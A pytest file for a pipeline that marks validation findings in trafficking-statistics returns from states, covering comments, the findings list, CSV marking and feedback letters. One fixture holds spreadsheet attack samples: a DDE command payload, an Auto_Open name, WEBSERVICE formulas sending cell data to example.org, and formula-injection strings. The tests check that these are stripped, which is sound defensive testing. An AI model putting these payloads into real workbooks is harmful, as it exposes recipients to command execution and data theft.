"""Are findings marked where they are, does the return survive, and does nothing that is
sent back run?
"""

from __future__ import annotations

import csv
import io
import re
import stat
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from builds import ROOT
from defects.returns import WorkbookDraft, good_workbook
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from pipeline.contracts.answer import read_answer_days
from pipeline.contracts.model import Contracts
from pipeline.errors import ContractError
from pipeline.findings import Finding, Severity
from pipeline.project import Project
from pipeline.returns.days import read_date
from pipeline.returns.feedback import marked_workbook
from pipeline.returns.feedback.letter import (
    LIST_LENGTHS,
    MAX_PAGES,
    Figures,
    LetterWriter,
)
from pipeline.returns.feedback.marked_csv import mark_csv
from pipeline.returns.feedback.marked_workbook import (
    AUTHOR,
    COLOURS,
    Heading,
    mark_cells,
    mark_workbook,
)
from pipeline.returns.feedback.opening import is_harmless
from pipeline.returns.formats.csvtext import read_csv
from pipeline.returns.formats.xlsx import read_xlsx
from pipeline.returns.intake.account import FileAccount
from pipeline.returns.intake.lines import column_names
from pipeline.returns.intake.reading import FileReading, RoundReading
from pipeline.returns.rules.check import refusals
from pipeline.returns.rules.outcome import Validation
from pipeline.returns.texts import Texts, load_texts
from pipeline.system.files import guarded, write_private

HEADING = Heading(
    "Romania: findings in the return", "For law enforcement and judicial use only", ("one", "two")
)
SHEET, OTHER = "9 Offences", "10 Judgments"
NAMES = {"table", "state", "year", "sex", "value", "note"}


def finding(sheet: str = SHEET, cell: str = "K7", **more: Any) -> Finding:
    values: dict[str, Any] = {
        "round": 2022,
        "report": "thb",
        "state": "RO",
        "file": "2022/thb/RO.xlsx",
        "sheet": sheet,
        "cell": cell,
        "table": "THB_OFFENCES",
        "key": "THB_OFFENCES:RO.2022",
        "rule": "THB_OFFENCES.value.change",
        "severity": "query",
        "found": "10 in 2021, 50 in 2022",
        "allowed": "a small change",
        "do": "explain it",
    }
    return Finding(**{**values, **more})


@pytest.fixture(scope="module")
def texts() -> Texts:
    return load_texts(Project(ROOT))


@pytest.fixture
def draft() -> WorkbookDraft:
    return WorkbookDraft("thb", "RO")


@pytest.fixture
def mark(texts: Texts) -> Callable[..., Any]:
    def marked(data: bytes, *findings: Finding) -> Any:
        return load_workbook(io.BytesIO(marked_copy(data, findings, texts)), rich_text=True)

    return marked


def marked_copy(data: bytes, findings: Sequence[Finding], texts: Texts) -> bytes:
    return mark_workbook(
        data, read_xlsx(data), findings=findings, heading=HEADING, round_=2022, texts=texts
    )


def comments(book: Any) -> dict[tuple[str, str], str]:
    """Sheet and cell of every comment of the Center, with its text."""
    cells = ((s.title, c) for s in book.worksheets for c in s._cells.values() if c.comment)
    return {
        (title, c.coordinate): c.comment.text for title, c in cells if c.comment.author == AUTHOR
    }


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def patched(data: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts(data).items():
            archive.writestr(name, change(name, content))
    return out.getvalue()


# Where findings are marked.


def test_comments_sit_on_the_cells_of_the_findings_and_nowhere_else(
    mark: Callable[..., Any],
) -> None:
    book = mark(
        good_workbook("thb", "RO"),
        finding(),
        finding(OTHER, "C9"),
        finding(cell=""),
        finding("", ""),
    )
    assert set(comments(book)) == {(SHEET, "K7"), (OTHER, "C9")}


def test_a_comment_says_rule_found_allowed_and_what_to_do_of_every_finding(
    mark: Callable[..., Any],
) -> None:
    second = finding(
        rule="formula", severity="note", found="=1+1 (2)", allowed="figures", do="paste the value"
    )
    text = comments(mark(good_workbook("thb", "RO"), finding(), second))[SHEET, "K7"]
    assert text.split("\n") == [
        "QUERY",
        "Rule: THB_OFFENCES.value.change",
        "Found: 10 in 2021, 50 in 2022",
        "Allowed: a small change",
        "To do: explain it",
        "",
        "NOTE",
        "Rule: formula",
        "Found: =1+1 (2)",
        "Allowed: figures",
        "To do: paste the value; this copy shows the stored value, the formula was taken out",
    ]


@pytest.mark.parametrize("severities", [("note", "error", "query"), ("query", "note"), ("note",)])
def test_a_cell_has_the_colour_of_its_worst_finding(
    mark: Callable[..., Any], severities: tuple[Severity, ...]
) -> None:
    book = mark(good_workbook("thb", "RO"), *(finding(severity=s) for s in severities))
    worst = next(s for s in ("error", "query", "note") if s in severities)
    cell = book[SHEET]["K7"]
    assert (cell.fill.fill_type, cell.fill.start_color.rgb) == ("solid", COLOURS[worst])
    assert cell.font.color.rgb == "FF000000"


def test_black_text_is_read_on_every_colour() -> None:
    for colour in COLOURS.values():
        red, green, blue = (int(colour[i : i + 2], 16) / 255 for i in (2, 4, 6))
        linear = [
            c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in (red, green, blue)
        ]
        luminance = sum(w * c for w, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))
        assert (luminance + 0.05) / 0.05 > 7


def test_a_finding_in_a_merged_cell_is_marked_at_its_first_cell(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    draft.book[SHEET].merge_cells("K9:L10")
    assert set(comments(mark(draft.bytes(), finding(cell="L10"), finding(cell="K9")))) == {
        (SHEET, "K9")
    }


@pytest.mark.parametrize("cell", ["line 12, column value", "XFE1", "A1048577", "A0", "K", "7"])
def test_an_address_that_no_sheet_has_stands_in_the_list_only(
    mark: Callable[..., Any], cell: str
) -> None:
    book = mark(good_workbook("thb", "RO"), finding(cell=cell))
    assert comments(book) == {}
    assert cell in [c.value for c in book.worksheets[0]["D"]]


def test_a_comment_of_the_state_stays_above_ours(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    draft.book[SHEET]["K7"].comment = Comment("checked twice", "focal point")
    draft.book[SHEET]["K8"].comment = Comment("a word of the state", "focal point")
    book = mark(draft.bytes(), finding())
    text = comments(book)[SHEET, "K7"]
    assert text.startswith("checked twice\n")
    assert text.endswith("To do: explain it")
    assert (book[SHEET]["K8"].comment.text, book[SHEET]["K8"].comment.author) == (
        "a word of the state",
        "focal point",
    )


def test_a_comment_of_very_many_findings_ends(mark: Callable[..., Any]) -> None:
    book = mark(good_workbook("thb", "RO"), *(finding(found="x" * 5_000) for _ in range(40)))
    assert len(comments(book)[SHEET, "K7"]) < 10_000
    assert sum(1 for c in book.worksheets[0]["A"] if c.value == "query") == 40


# The list in front.


def test_the_first_sheet_lists_every_finding_with_a_link_to_its_cell(
    mark: Callable[..., Any],
) -> None:
    found = [
        finding(severity="note"),
        finding(OTHER, "C10", severity="error"),
        finding(OTHER, "C9", severity="error"),
        finding("No such sheet", ""),
        finding(cell=""),
    ]
    book = mark(good_workbook("thb", "RO"), *found)
    sheet = book.worksheets[0]
    assert (sheet.title, book.active.title) == ("Findings", "Findings")
    assert [s.sheet_view.tabSelected for s in book.worksheets].count(True) == 1
    lines = [[c.value for c in row] for row in sheet.iter_rows(min_row=7)]
    assert [(x[0], x[2], x[3]) for x in lines] == [
        ("error", OTHER, "C9"),
        ("error", OTHER, "C10"),
        ("query", "No such sheet", None),
        ("query", SHEET, None),
        ("note", SHEET, "K7"),
    ]
    assert links_of(sheet) == {
        "D7": (f"'{OTHER}'!C9", None),
        "D8": (f"'{OTHER}'!C10", None),
        "C10": (f"'{SHEET}'!A1", None),
        "D11": (f"'{SHEET}'!K7", None),
    }


def links_of(sheet: Any) -> dict[str, tuple[str, str | None]]:
    cells = (c for c in sheet._cells.values() if c.hyperlink)
    return {c.coordinate: (c.hyperlink.location, c.hyperlink.target) for c in cells}


def test_the_list_is_made_to_be_filtered_and_printed(mark: Callable[..., Any]) -> None:
    sheet = mark(good_workbook("thb", "RO"), finding()).worksheets[0]
    assert [sheet[f"A{n}"].value for n in (1, 2, 3, 4)] == [
        HEADING.title,
        HEADING.marking,
        *HEADING.lines,
    ]
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == (
        "A7",
        "A6:H7",
        "$6:$6",
    )
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.oddHeader.center.text == HEADING.marking
    assert sheet["F7"].alignment.wrap_text


def test_a_sheet_of_the_state_may_have_the_name_of_ours(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    draft.book.create_sheet("FINDINGS")["A1"] = "of the state"
    book = mark(draft.bytes(), finding("FINDINGS", "A1"))
    assert book.sheetnames[0] == "Findings (2)"
    assert book["FINDINGS"]["A1"].value == "of the state"
    assert set(comments(book)) == {("FINDINGS", "A1")}


def test_a_name_with_an_apostrophe_is_linked(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    draft.book.create_sheet("L'Aquila")["A1"] = 1
    sheet = mark(draft.bytes(), finding("L'Aquila", "A1")).worksheets[0]
    assert links_of(sheet) == {"D7": ("'L''Aquila'!A1", None)}


# What survives.


def test_formatting_lists_and_other_sheets_survive(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    sheet = draft.book[SHEET]
    sheet["K8"].fill = PatternFill("solid", start_color="FF00FF00")
    sheet["K8"].number_format = "0.00"
    sheet.conditional_formatting.add(
        "D7:K7",
        FormulaRule(formula=["D7>100"], fill=PatternFill(bgColor="FFFF0000")),  # type: ignore[no-untyped-call]
    )
    sheet["M7"] = CellRichText("plain ", TextBlock(InlineFont(b=True), "bold"))
    draft.book.create_sheet("Workings")["B2"] = 41
    draft.book.defined_names["answers"] = DefinedName("answers", attr_text="Lists!$C$1:$C$3")
    before = load_workbook(io.BytesIO(draft.bytes()))
    after = mark(draft.bytes(), finding())
    assert after.sheetnames[1:] == before.sheetnames
    for old, new in zip(before.worksheets, after.worksheets[1:], strict=True):
        assert lists_of(new) == lists_of(old)
        assert {k: d.width for k, d in new.column_dimensions.items()} == {
            k: d.width for k, d in old.column_dimensions.items()
        }
        assert (new.sheet_state, new.freeze_panes, new.protection.sheet) == (
            old.sheet_state,
            old.freeze_panes,
            old.protection.sheet,
        )
    assert lists_of(after[SHEET])
    assert after["Lists"].sheet_state == "hidden"
    assert after[SHEET]["K8"].fill.start_color.rgb == "FF00FF00"
    assert after[SHEET]["K8"].number_format == "0.00"
    assert not after[SHEET]["K7"].protection.locked
    assert [r.formula for f in after[SHEET].conditional_formatting for r in f.rules] == [["D7>100"]]
    assert after[SHEET]["M7"].value == CellRichText("plain ", TextBlock(InlineFont(b=True), "bold"))
    assert after["Workings"]["B2"].value == 41
    assert set(after.defined_names) == {"answers"}


def lists_of(sheet: Any) -> set[tuple[str, str, str]]:
    return {(str(v.sqref), v.type, v.formula1) for v in sheet.data_validations.dataValidation}


def test_every_value_is_the_one_that_was_sent(mark: Callable[..., Any]) -> None:
    data = good_workbook("thb", "RO")
    before = load_workbook(io.BytesIO(data))
    after = mark(data, finding())
    for sheet in before.worksheets:
        values = {c.coordinate: c.value for c in sheet._cells.values() if c.value is not None}
        assert {
            c.coordinate: c.value for c in after[sheet.title]._cells.values() if c.value is not None
        } == values


def test_lists_that_newer_programs_write_as_an_extension_survive(mark: Callable[..., Any]) -> None:
    extension = (
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"'
        ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations'
        ' count="1"'
        ' xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation'
        ' type="list" allowBlank="1" showErrorMessage="1"'
        ' error="Choose."><x14:formula1><xm:f>Lists!$A$1:$A$13</xm:f></x14:formula1><xm:sqref>E7'
        " G7:G9</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
    )

    def extend(name: str, content: bytes) -> bytes:
        return (
            content.replace(b"</worksheet>", extension.encode())
            if name == "xl/worksheets/sheet1.xml"
            else content
        )

    sheet = mark(patched(good_workbook("thb", "RO"), extend), finding()).worksheets[1]
    assert ("E7 G7:G9", "list", "Lists!$A$1:$A$13") in lists_of(sheet)


def test_the_same_return_and_findings_give_the_same_bytes(texts: Texts) -> None:
    one, two = (marked_copy(good_workbook("thb", "RO"), [finding()], texts) for _ in range(2))
    assert one == two


# What does not come back.


def hostile(draft: WorkbookDraft) -> bytes:
    """A return with formulas, links, names and texts that would run, or say more than
    they may.
    """
    sheet = draft.book[SHEET]
    sheet["D7"], sheet["F7"], sheet["H7"] = "=1+1", "=CONCATENATE(A1)", "=NOW()"
    for cell, text in (
        ("M7", "@SUM(1)"),
        ("M8", "+49 is a prefix"),
        ("M9", "-dash"),
        ("M10", "\t=1+1"),
    ):
        sheet[cell] = text
    sheet["M11"].value, sheet["M11"].data_type = "=2+2", "s"
    sheet["K7"] = -5
    sheet["A1"].hyperlink = "https://example.org/track"
    for name, text in (
        ("Auto_Open", "Lists!$A$1"),
        ("run", 'WEBSERVICE("http://example.org")'),
        ("dde", "cmd|' /C calc'!A0"),
    ):
        draft.book.defined_names[name] = DefinedName(name, attr_text=text)
    sheet.add_data_validation(
        DataValidation("custom", formula1='WEBSERVICE("http://example.org/"&A1)', sqref="D8")
    )
    red = PatternFill(bgColor="FFFF0000")
    sheet.conditional_formatting.add(
        "D8",
        FormulaRule(formula=['WEBSERVICE("http://example.org")=1'], fill=red),  # type: ignore[no-untyped-call]
    )
    draft.book.properties.creator = "Jane Person"

    def store(name: str, content: bytes) -> bytes:
        content = re.sub(rb"<f>1\+1</f><v ?/?>(?:</v>)?", b"<f>1+1</f><v>2</v>", content)
        text = rb'<c r="F7"\1 t="str"><f>CONCATENATE(A1)</f><v>=cmd|calc</v>'
        return re.sub(rb'<c r="F7"([^>]*)><f>CONCATENATE\(A1\)</f><v ?/?>(?:</v>)?', text, content)

    return patched(draft.bytes(), store)


def test_formulas_come_back_as_their_stored_values(
    mark: Callable[..., Any], draft: WorkbookDraft
) -> None:
    sheet = mark(hostile(draft), finding(cell="D7", rule="formula"))[SHEET]
    assert (sheet["D7"].value, sheet["F7"].value, sheet["H7"].value) == (2, "'=cmd|calc", None)
    assert "the formula was taken out" in comments(sheet.parent)[SHEET, "D7"]


def test_nothing_that_is_sent_back_runs(texts: Texts, draft: WorkbookDraft) -> None:
    said = finding(
        cell="M9", found="=cmd|' /C calc'!A0", allowed="+1", do="@do", key="-key", rule="=rule"
    )
    data = marked_copy(hostile(draft), [said], texts)
    for name, content in parts(data).items():
        assert b"<f>" not in content, name
        assert b"WEBSERVICE" not in content, name
        assert b'TargetMode="External"' not in content, name
        assert b"Jane Person" not in content, name
    book = load_workbook(io.BytesIO(data))
    assert set(book.defined_names) == set()
    assert book[SHEET]["K7"].value == -5
    values = [
        str(c.value) for s in book.worksheets for c in s._cells.values() if isinstance(c.value, str)
    ]
    assert "'@SUM(1)" in values
    assert [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.parametrize(
    ("formula", "harmless"),
    [
        ("Lists!$A$1:$A$13", True),
        ('"yes,no|maybe"', True),
        ("AND(D7>0,ISNUMBER(D7))", True),
        (None, True),
        ("[1]Sheet!$A$1", False),
        ("cmd|' /C calc'!A0", False),
        ('HYPERLINK("http://x")', False),
        ("_xlfn.WEBSERVICE(A1)", False),
    ],
)
def test_only_formulas_that_look_at_cells_are_harmless(formula: str | None, harmless: bool) -> None:
    assert is_harmless(formula) is harmless


def test_personal_data_is_taken_out_of_the_copy(texts: Texts, draft: WorkbookDraft) -> None:
    draft.book[SHEET]["M7"] = "call jane.person@example.org"
    found = finding(cell="M7", rule="personal-data", found="what looks like an address")
    data = marked_copy(draft.bytes(), [found], texts)
    assert load_workbook(io.BytesIO(data))[SHEET]["M7"].value == "[removed: personal data]"
    assert not [name for name, content in parts(data).items() if b"jane.person" in content]


def test_characters_that_xml_cannot_hold_are_left_out(mark: Callable[..., Any]) -> None:
    book = mark(good_workbook("thb", "RO"), finding(found="a\x00b\x0bc\ufffe\ud800d"))
    assert "Found: abcd\n" in comments(book)[SHEET, "K7"]


def test_a_workbook_that_cannot_be_taken_over_comes_back_as_its_cells(
    texts: Texts, draft: WorkbookDraft, monkeypatch: pytest.MonkeyPatch
) -> None:
    draft.book[SHEET]["K7"] = -7.5
    draft.book[SHEET]["M7"] = "=text"
    draft.book[SHEET]["M7"].data_type = "s"

    def fail(data: bytes) -> None:
        raise KeyError("a style that the library does not know")

    monkeypatch.setattr(marked_workbook, "open_original", fail)
    book = load_workbook(io.BytesIO(marked_copy(draft.bytes(), [finding()], texts)))
    assert book.sheetnames[1:] == draft.book.sheetnames
    assert set(comments(book)) == {(SHEET, "K7")}
    assert (book[SHEET]["K7"].value, book[SHEET]["M7"].value) == (-7.5, "'=text")
    assert book["Lists"].sheet_state == "hidden"


def test_cells_that_were_read_give_a_marked_workbook(texts: Texts, draft: WorkbookDraft) -> None:
    draft.book[SHEET].merge_cells("K9:L10")
    raw = read_xlsx(draft.bytes())
    book = load_workbook(
        io.BytesIO(mark_cells(raw, [finding(cell="L9")], heading=HEADING, round_=2022, texts=texts))
    )
    assert set(comments(book)) == {(SHEET, "K9")}
    for sheet in raw.sheets:
        assert len([c for c in book[sheet.name]._cells.values() if c.value is not None]) == len(
            sheet.cells
        )


# CSV files.

LINES = "\r\n".join(
    [
        "table,state,year,sex,value,note",
        'A,HU,2022,F,-5,"two\nlines"',
        "",
        "A,HU,2022,M,=1+1,@x",
        "A,HU,2022,_T,9",
        "",
    ]
)


def marked_lines(
    text: str, *findings: Finding, encoding: str = "utf-8", texts: Texts
) -> list[list[str]]:
    read = read_csv(text.encode(encoding), "HU", names=NAMES, words=frozenset({"őrizet"}))
    data = mark_csv(read, read.records[0].fields, findings=findings, texts=texts)
    assert data.startswith(b"\xef\xbb\xbf")
    delimiter = ";" if ";" in text.split("\n")[0] else ","
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_lines_keep_their_numbers_and_get_one_more_column(texts: Texts) -> None:
    told = finding("", "line 5, column value")
    lines = marked_lines(LINES, told, texts=texts)
    assert lines[0] == ["table", "state", "year", "sex", "value", "note", "finding"]
    assert [len(x) for x in lines] == [7, 7, 0, 7, 7]
    assert lines[1] == ["A", "HU", "2022", "F", "-5", "two\nlines", ""]
    assert lines[3][4:6] == ["'=1+1", "'@x"]
    assert (
        lines[3][6]
        == "QUERY (value) Rule: THB_OFFENCES.value.change; Found: 10 in 2021, 50 in 2022; Allowed:"
        " a small change; To do: explain it"
    )
    assert [x[6] for x in (lines[1], lines[4])] == ["", ""]


def test_what_concerns_no_line_follows_at_the_end(texts: Texts) -> None:
    found = [
        finding("", ""),
        finding("", "line 1, column 3"),
        finding("Cover", "line 3, column answer"),
        finding("", "line 99, column value"),
        finding("", "line 1, column 3", severity="note"),
    ]
    lines = marked_lines(LINES, *found, texts=texts)[5:]
    assert [x[0] for x in lines] == [
        "# file",
        "# line 1, column 3",
        "# Cover, line 3, column answer",
        "# line 99, column value",
    ]
    assert lines[1][-1].count(" | ") == 1
    assert all(x[1:-1] == [""] * 5 for x in lines)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1250"])
def test_delimiter_and_letters_of_a_file_survive(encoding: str, texts: Texts) -> None:
    lines = marked_lines(
        "table;state;year;sex;value;note\nA;HU;2022;F;5;őrizet\n", encoding=encoding, texts=texts
    )
    assert lines[1] == ["A", "HU", "2022", "F", "5", "őrizet", ""]


def test_a_line_longer_than_its_header_keeps_all_its_fields(texts: Texts) -> None:
    lines = marked_lines(
        "table,state,year,value\nA,HU,2022,1,more\n", finding("", "line 2, column 5"), texts=texts
    )
    assert lines[0] == ["table", "state", "year", "value", "", "finding"]
    assert lines[1][:5] == ["A", "HU", "2022", "1", "more"]
    assert lines[1][5].startswith("QUERY (5)")


def test_personal_data_is_taken_out_of_a_line(texts: Texts) -> None:
    text = "table,state,year,value,note\nA,HU,2022,1,jane.person@example.org,+36 1 234 5678\n"
    places = ("line 2, column note", "line 2, column 6", "line 1, column 5")
    found = [finding("", place, rule="personal-data", found="an address") for place in places]
    lines = marked_lines(text, *found, texts=texts)
    assert [lines[1][4], lines[1][5], lines[0][4]] == ["[removed: personal data]"] * 3


# Files.


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n1", " =1", "\u200b@x", "＝1", "\ufeff=1"]
)
def test_a_text_that_begins_like_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=1", "5", "'=1", "<5", ":", "–", " note"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


def test_what_is_restricted_is_readable_for_its_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "RO" / "letter.pdf"
    assert write_private(path, b"one")
    assert not write_private(path, b"one")
    assert write_private(path, b"two")
    assert path.read_bytes() == b"two"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert [p.name for p in path.parent.iterdir()] == ["letter.pdf"]


# Letters.


def letters(
    contracts: Contracts, texts: Texts, findings: list[Finding], received: str = "2023-03-31"
) -> LetterWriter:
    file = FileReading(2022, "thb", "RO", "2022/thb/RO.xlsx", "ab" * 32, received, "1.0.0", "read")
    loaded, refused = {"THB_OFFENCES": 6}, {"": 1}
    account = FileAccount(
        file.file, "RO", "thb", file.sha256, 10, 6, 1, {"cover": 3}, loaded, refused
    )
    reading = RoundReading(2022, (file,), (), (account,))
    validation = Validation(reading, tuple(findings), refusals(findings), (account,))
    counts = {("RO", t.name, ""): (1_234, 2018, 2022) for t in contracts.contract("thb").tables[:3]}
    revised = {
        f.key: (2021, Decimal(7), Decimal(9)) for f in findings if f.rule.endswith(".revised")
    }
    return LetterWriter(
        Project(ROOT), contracts, validation, Figures(counts, revised), texts, "Marked so", 30
    )


def test_a_letter_says_what_was_received_refused_asked_revised_and_covered(
    contracts: Contracts, texts: Texts
) -> None:
    found = [
        *(finding(cell=f"K{n}") for n in range(30, 10, -1)),
        finding(
            "1 Victims sex age",
            "D9",
            table="THB_VICTIMS",
            severity="error",
            found="x",
            rule="not-a-number",
        ),
        finding(
            cell="K8",
            rule="THB_OFFENCES.value.revised",
            severity="note",
            key="THB_OFFENCES:RO.2021",
        ),
        finding(
            "", "", file="", report="octa", rule="no-return", severity="note", table="", key=""
        ),
    ]
    view = letters(contracts, texts, found).view("RO", ["RO-thb-2022-marked.xlsx"], most=12)
    assert (view["dated"], view["deadline"], view["name"]) == (
        "31 March 2023",
        "30 April 2023",
        "Romania",
    )
    thb, octa = view["received"]
    assert (thb["file"], thb["hash"], thb["outcome"]) == (
        "2022/thb/RO.xlsx",
        "abababababab",
        "1 table refused",
    )
    assert [thb[k] for k in ("filled", "loaded", "refused", "ignored")] == ["10", "6", "1", "3"]
    assert (octa["file"], octa["outcome"]) == ("", "not received")
    assert [(r["table"], r["cell"], r["errors"]) for r in view["refused"]] == [
        ("1 Victims sex age", "D9", 1)
    ]
    assert (len(view["queries"]), view["queries_in_all"]) == (12, 20)
    assert [q["cell"] for q in view["queries"]][:2] == ["K11", "K12"]
    assert [(r["key"], r["before"], r["now"]) for r in view["revisions"]] == [
        ("THB_OFFENCES:RO.2021", "7", "9")
    ]
    assert view["notes_in_all"] == 1
    (coverage,) = view["coverage"]
    assert coverage["full"][0] == "Victims form (1,234, 2018–2022)"
    assert coverage["refused"] == ["Victims sex age"]
    assert "Offences" in coverage["empty"]


def test_the_longest_letter_has_two_pages(
    contracts: Contracts, texts: Texts, tmp_path: Path
) -> None:
    tables = contracts.contract("thb").tables
    long = "Ünlü ♥ 統計 \u202e حرف \x07 " * 40
    found = [
        finding(
            t.layout.sheet,
            f"K{n}",
            table=t.name,
            severity=severity,
            found=long,
            do=long,
            rule=f"{t.name}.{rule}",
            key=f"{t.name}:RO.2022.{n}",
        )
        for t in tables
        for n in range(7, 47)
        for severity, rule in (
            ("error", "value.code"),
            ("query", "value.change"),
            ("note", "value.revised"),
        )
    ]
    writer = letters(contracts, texts, found, received="nobody knows")
    writer.pdf(
        "RO", [f"RO-thb-2022-{n}-marked.xlsx" for n in range(6)], output=tmp_path / "letter.pdf"
    )
    import pikepdf

    with pikepdf.open(tmp_path / "letter.pdf") as pdf:
        assert 1 <= len(pdf.pages) <= MAX_PAGES
    assert writer.view("RO", [], most=LIST_LENGTHS[0])["deadline"] == ""


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2023-03-31", date(2023, 3, 31)),
        ("2023-03-31T10:00:00", date(2023, 3, 31)),
        ("31.3.2023", date(2023, 3, 31)),
        ("31/03/2023", date(2023, 3, 31)),
        ("2023-02-30", None),
        ("", None),
        ("spring", None),
        ("31 March", None),
    ],
)
def test_the_date_on_a_cover_is_read(text: str, day: date | None) -> None:
    assert read_date(text) == day


def test_a_deadline_beyond_the_calendar_is_none(contracts: Contracts, texts: Texts) -> None:
    assert (
        letters(contracts, texts, [], received="9999-12-31").view("RO", [], most=1)["deadline"]
        == ""
    )


@pytest.mark.parametrize(
    "content",
    ["answerDays: 0", "answerDays: 400", "answerDays: thirty", "answerDays: true", "{", "[]"],
)
def test_days_that_nobody_can_keep_are_refused(content: str, tmp_path: Path) -> None:
    (tmp_path / "feedback.yaml").write_text(content, encoding="utf-8")
    with pytest.raises(ContractError):
        read_answer_days(tmp_path)


def test_the_days_of_the_project_are_in_bounds(contracts: Contracts) -> None:
    assert read_answer_days(ROOT / "data_contracts") == 30
    assert {"table", "value"} <= column_names(contracts.contract("thb"))
